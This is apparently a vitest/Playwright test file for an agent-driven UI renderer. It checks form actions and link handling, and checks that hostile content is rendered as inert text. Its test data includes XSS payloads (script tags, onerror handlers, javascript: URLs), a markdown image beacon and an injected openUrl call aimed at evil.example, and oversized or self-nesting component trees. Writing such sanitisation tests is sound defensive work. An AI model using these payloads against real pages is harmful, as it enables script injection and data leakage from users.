import { describe, expect, it } from 'vitest'
import { emailForm, formComponents, surfacePart, textSurface } from './a2ui/messages.ts'
import { surfacePages } from './a2ui/open-page.ts'

const open = surfacePages()

describe('actions', () => {
  it('carry their context, and the data when the surface wants it back', async (test) => {
    const page = await open(test)
    await page.show([emailForm({ sendDataModel: true })])
    await page.surface.getByLabel('Name').fill('Ada')
    await page.surface.getByLabel('Email').fill('ada@example.com')
    await page.surface.getByRole('button', { name: 'Continue' }).click()
    const [sent] = await page.actions()
    expect(sent).toEqual({
      version: 'v0.9',
      action: {
        name: 'travellers',
        surfaceId: 'form',
        sourceComponentId: 'send',
        timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as string,
        context: { who: 'Ada', trip: 'T1' },
      },
      dataModel: { version: 'v0.9', surfaces: { form: { name: 'Ada', email: 'ada@example.com' } } },
    })
  })

  it('are sent once until they are answered', async (test) => {
    const page = await open(test)
    await page.show([emailForm()])
    await page.surface.getByLabel('Email').fill('ada@example.com')
    const button = page.surface.getByRole('button', { name: 'Continue' })
    await button.dblclick()
    expect(await button.getAttribute('aria-disabled')).toBe('true')
    expect(await page.actions()).toHaveLength(1)
    expect((await page.actions())[0]).not.toHaveProperty('dataModel')
    await page.answer()
    await button.click()
    expect(await page.actions()).toHaveLength(2)
  })

  it('are not sent by the second click of a double click, though the first one has been answered', async (test) => {
    const page = await open(test)
    await page.show([emailForm()])
    await page.surface.getByLabel('Email').fill('ada@example.com')
    const button = page.surface.getByRole('button', { name: 'Continue' })
    const { x, y } = (await button.boundingBox()) ?? { x: 0, y: 0 }
    await page.page.mouse.click(x + 5, y + 5)
    await page.answer()
    expect(await button.getAttribute('aria-disabled')).toBeNull()
    await page.page.mouse.down({ clickCount: 2 })
    await page.page.mouse.up({ clickCount: 2 })
    expect(await page.actions()).toHaveLength(1)
    await page.page.mouse.click(x + 5, y + 5)
    expect(await page.actions()).toHaveLength(2)
  })

  it('that could not be sent can be sent again, and the page says why', async (test) => {
    const page = await open(test)
    await page.show([emailForm()])
    await page.surface.getByLabel('Email').fill('ada@example.com')
    const button = page.surface.getByRole('button', { name: 'Continue' })
    await button.click()
    await page.answer('You are offline.')
    expect(await page.text()).toContain('You are offline.')
    expect(await page.announced()).toBe('You are offline.')
    await button.click()
    expect(await page.actions()).toHaveLength(2)
    expect(await page.text()).not.toContain('You are offline.')
  })

  it('are refused by a surface that is stale', async (test) => {
    const page = await open(test)
    await page.show([surfacePart(formComponents, { data: { name: '', email: 'ada@example.com' } })])
    await page.setState('form', 'stale', 'These prices are old. Ask again.')
    const button = page.surface.getByRole('button', { name: 'Continue' })
    await button.click({ force: true })
    expect(await page.actions()).toEqual([])
    expect(await page.surface.getByLabel('Name').isDisabled()).toBe(true)
    expect(await page.text()).toContain('These prices are old. Ask again.')
    await page.setState('form', 'open')
    await button.click()
    expect(await page.actions()).toHaveLength(1)
  })

  it('open links only where they may lead, and only when the user clicks', async (test) => {
    const page = await open(test)
    const link = ([id, url]: readonly [string, string]) => [
      {
        id,
        component: 'Button',
        child: `${id}-text`,
        action: { functionCall: { call: 'openUrl', args: { url } } },
      },
      { id: `${id}-text`, component: 'Text', text: id },
    ]
    const links = {
      web: 'https://example.com/a',
      mail: 'mailto:ada@example.com',
      app: 'calculator:start',
      files: 'ftp://files.example/',
    }
    const sly = "Hello${openUrl(url: 'https://evil.example/')}"
    const components = [
      { id: 'root', component: 'Column', children: [...Object.keys(links), 'sly'] },
      ...Object.entries(links).flatMap(link),
      { id: 'sly', component: 'Text', text: { call: 'formatString', args: { value: sly }, returnType: 'string' } },
    ]
    await page.show([surfacePart(components)])
    expect(await page.opened()).toEqual([])
    for (const name of Object.keys(links)) await page.surface.getByRole('button', { name }).click()
    expect(await page.opened()).toEqual(['https://example.com/a', 'mailto:ada@example.com'])
    expect(await page.actions()).toEqual([])
    expect(await page.text()).toContain('Hello')
    const [script] = link(['script', 'javascript:alert(1)'])
    await page.show([
      surfacePart([
        { ...script, id: 'root', child: 'text' },
        { id: 'text', component: 'Text', text: 'x' },
      ]),
    ])
    expect(await page.text()).toBe('')
  })
})

describe('hostile content', () => {
  it('is text, and nothing but text', async (test) => {
    const page = await open(test)
    const requests: string[] = []
    page.page.on('request', (request) => requests.push(request.url()))
    const script = '<script>globalThis.hacked = 1</script><img src=x onerror="globalThis.hacked = 1">'
    const markdown = [
      script,
      '![secret](https://evil.example/?q=secret)',
      '[click](javascript:globalThis.hacked=1)',
      '[fine](https://example.com/)',
      '<a href="https://evil.example">raw</a>',
    ].join('\n\n')
    const names = ['text', 'title', 'image', 'video', 'icon', 'field', 'tabs', 'choice']
    await page.show([
      surfacePart(
        [
          { id: 'root', component: 'Column', children: names },
          { id: 'text', component: 'Text', text: markdown },
          { id: 'title', component: 'Text', text: { path: '/script' }, variant: 'h1' },
          { id: 'image', component: 'Image', url: 'https://evil.example/pixel.png?secret', description: script },
          { id: 'video', component: 'Video', url: 'javascript:globalThis.hacked=1' },
          { id: 'icon', component: 'Icon', name: { svgPath: '"/><script>globalThis.hacked=1</script>' } },
          { id: 'field', component: 'TextField', label: script, value: { path: '/script' } },
          { id: 'tabs', component: 'Tabs', tabs: [{ title: script, child: 'inner' }] },
          { id: 'inner', component: 'Text', text: script, variant: 'caption' },
          {
            id: 'choice',
            component: 'ChoicePicker',
            label: script,
            options: [{ label: script, value: '"' }],
            value: [],
          },
        ],
        { data: { script }, create: { theme: { agentDisplayName: script, iconUrl: 'https://evil.example/icon' } } },
      ),
    ])
    const found = await page.surface.evaluate((surface) => {
      const root = surface.shadowRoot as ShadowRoot
      return {
        forbidden: root.querySelectorAll('script, iframe, object, embed, [onerror], img, style').length,
        links: [...root.querySelectorAll('a')].map((a) => [a.href, a.rel, a.target]),
        hacked: (globalThis as unknown as { hacked?: number }).hacked,
      }
    })
    expect(found).toEqual({
      forbidden: 0,
      links: [['https://example.com/', 'noopener noreferrer', '_blank']],
      hacked: undefined,
    })
    expect(requests).toEqual([])
    expect(await page.violations()).toEqual([])
    expect(await page.text()).toContain('<script>globalThis.hacked = 1</script>')
  })

  it('pictures come from the page itself, from data, and from where the page allows', async (test) => {
    const page = await open(test)
    const requests: string[] = []
    page.page.on('request', (request) => requests.push(new URL(request.url()).host))
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
    const image = (id: string, url: string) => ({ id, component: 'Image', url, description: id })
    const part = surfacePart([
      { id: 'root', component: 'Column', children: ['pixel', 'other', 'listed'] },
      image('pixel', pixel),
      image('other', 'https://other.example/a.png'),
      image('listed', 'https://listed.example/a.png'),
    ])
    await page.show([part], { sources: ['https://listed.example'] })
    const sources = await page.surface.evaluate((surface) =>
      [...(surface.shadowRoot as ShadowRoot).querySelectorAll('img')].map((img) => img.alt),
    )
    expect(sources).toContain('pixel')
    expect(sources).not.toContain('other')
    // The page’s own policy keeps the listed one out; the renderer would have let it in, and shows that it is missing.
    expect((await page.violations()).join()).toContain('https://listed.example')
    expect(await page.surface.getByRole('img', { name: 'listed' }).count()).toBe(1)
    expect(requests.filter((host) => host === 'other.example')).toEqual([])
  })

  it('that is far too large is cut off, and the page stays alive', async (test) => {
    const page = await open(test)
    const many = Array.from({ length: 9_000 }, (_, index) => ({ name: `Row ${index}` }))
    await page.show([
      surfacePart(
        [
          { id: 'root', component: 'Column', children: { componentId: 'row', path: '/rows' } },
          { id: 'row', component: 'Text', text: { path: 'name' } },
        ],
        { data: { rows: many } },
      ),
    ])
    expect(await page.text()).toContain('There is more than can be shown here.')
    expect((await page.errors())[0]?.problems.join()).toContain('more components than can be shown')
  })

  it('that doubles itself at every level, after it has been found to be right, is cut off too', async (test) => {
    const page = await open(test)
    await page.show([textSurface('start', { id: 'form' })])
    const levels = Array.from({ length: 30 }, (_, level) => ({
      id: level === 0 ? 'root' : `level-${level}`,
      component: 'Column',
      children: [`level-${level + 1}`, `level-${level + 1}`],
    }))
    await page.handle({ data: { version: 'v0.9', updateComponents: { surfaceId: 'form', components: levels } } })
    await page.handle({
      data: {
        version: 'v0.9',
        updateComponents: { surfaceId: 'form', components: [{ id: 'level-5', component: 'Card', child: 'root' }] },
      },
    })
    const count = await page.surface.evaluate((surface) => surface.shadowRoot?.querySelectorAll('*').length ?? 0)
    expect(count).toBeLessThan(10_000)
    expect((await page.errors()).flatMap(({ problems }) => problems).join()).toContain('contains itself')
  })
})
